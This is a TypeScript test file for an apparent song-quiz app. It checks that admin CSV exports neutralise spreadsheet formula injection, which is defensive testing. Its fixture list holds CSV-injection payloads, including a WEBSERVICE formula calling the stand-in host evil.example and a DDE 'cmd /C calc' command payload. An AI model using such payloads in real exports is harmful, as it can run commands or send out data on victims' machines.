/**
 * Issue 37, finding 1: a catalogue whose titles and lines start formulas must not put a single
 * formula cell into any admin export (OWASP "CSV Injection": a leading `'` in the cell).
 */
import { describe, expect, test } from 'bun:test';
import { parse } from 'csv-parse/sync';
import { EXPORT_TABLES } from '../../src/shared/contracts/admin-range';
import { createTestApp, makeCatalogue } from '../support/fixtures';
import { answerQuiz, fetchQuiz, submit } from '../support/play';

const FORMULAS = ['=1+1', '=WEBSERVICE("http://evil.example")', "-2+3+cmd|' /C calc'!A0", '+1+1', '@SUM(1)'];
const basic = `Basic ${btoa('admin:test-password-123')}`;

/** The fixture catalogue with every album title, song title and a line of each song starting a formula. */
function hostileCatalogue() {
  const catalogue = makeCatalogue(2, 4, 10);
  let n = 0;
  for (const album of catalogue.albums) {
    album.title = `${FORMULAS[n++ % FORMULAS.length]} album ${n}`;
    for (const song of album.songs) {
      song.title = `${FORMULAS[n++ % FORMULAS.length]} pjesma ${n}`;
      song.lines[0] = `${FORMULAS[n++ % FORMULAS.length]} stih ${n}`;
    }
  }
  return catalogue;
}

describe('CSV exports of a hostile catalogue', () => {
  test('no cell of any export starts with = + - @ tab or CR', async () => {
    const t = await createTestApp({ catalogue: hostileCatalogue() });
    // Plays with wrong answers, so that the confusion table has rows too.
    for (let i = 0; i < 3; i++) {
      const res = await submit(t, answerQuiz(await fetchQuiz(t), 10));
      expect(res.status).toBe(200);
    }
    let neutralised = 0;
    for (const table of EXPORT_TABLES) {
      for (const query of ['', '?from=2025-04-01&to=2025-04-15']) {
        const res = await t.request(`/api/admin/export/${table}.csv${query}`, {
          headers: { authorization: basic },
        });
        expect(res.status, `${table}${query}`).toBe(200);
        const rows: string[][] = parse(await res.text(), { bom: true, delimiter: ';', relax_quotes: true });
        for (const row of rows)
          for (const value of row) {
            // A negative number is a value, not a formula (-2,5): only text is neutralised.
            if (/^-\d+(,\d+)?$/.test(value)) continue;
            expect(value, `${table}${query}`).not.toMatch(/^[=+\-@\t\r]/);
            if (value.startsWith("'")) neutralised++;
          }
      }
    }
    // The hostile texts did reach the exports (as text): the check above was not vacuous.
    expect(neutralised).toBeGreaterThan(20);
  });
});
